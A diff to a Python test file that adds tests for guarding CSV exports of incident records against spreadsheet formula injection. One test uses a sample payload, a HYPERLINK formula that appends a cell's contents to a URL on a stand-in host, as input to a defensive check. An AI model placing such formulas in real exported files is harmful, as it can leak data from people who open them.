@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 
@@ -10,7 +13,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from nucsec.incidents.csvio import COLUMNS, incidents_to_csv, read_incidents_csv
+from nucsec.incidents.csvio import (
+    COLUMNS,
+    FORMULA_START,
+    guard_cell,
+    incidents_to_csv,
+    read_incidents_csv,
+    unguard_cell,
+)
 from nucsec.incidents.demo import demo_incidents
 from nucsec.incidents.errors import CsvImportError
 from nucsec.incidents.items import SourceItem
@@ -35,6 +45,31 @@ def test_csv_round_trip(incident: Incident) -> None:
     result = read_incidents_csv(incidents_to_csv([incident]))
     assert result.incidents == (incident,)
     assert result.errors == ()
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=12))
+def test_formula_guard_is_undone_exactly(value: str) -> None:
+    assert unguard_cell(guard_cell(value)) == value
+
+
+@settings(max_examples=80, deadline=None)
+@given(incidents())
+def test_no_exported_cell_is_a_formula(incident: Incident) -> None:
+    rows = list(csv.reader(io.StringIO(incidents_to_csv([incident]))))
+    for cell in (c for row in rows[1:] for c in row):
+        if cell[:1] in FORMULA_START:
+            float(cell)  # only numbers (a negative longitude) may start so
+
+
+def test_formula_in_a_narrative_is_exported_inert_and_imported_unchanged() -> None:
+    incident = next(i for _, i in demo_incidents() if i.narrative)
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    p = replace(incident.narrative[0], text=formula)
+    changed = replace(incident, narrative=(p, *incident.narrative[1:]))
+    text = incidents_to_csv([changed])
+    assert "'" + formula.replace('"', '""') in text
+    assert read_incidents_csv(text, today=TODAY).incidents == (changed,)
 
 
 def test_demo_round_trip_and_header() -> None:
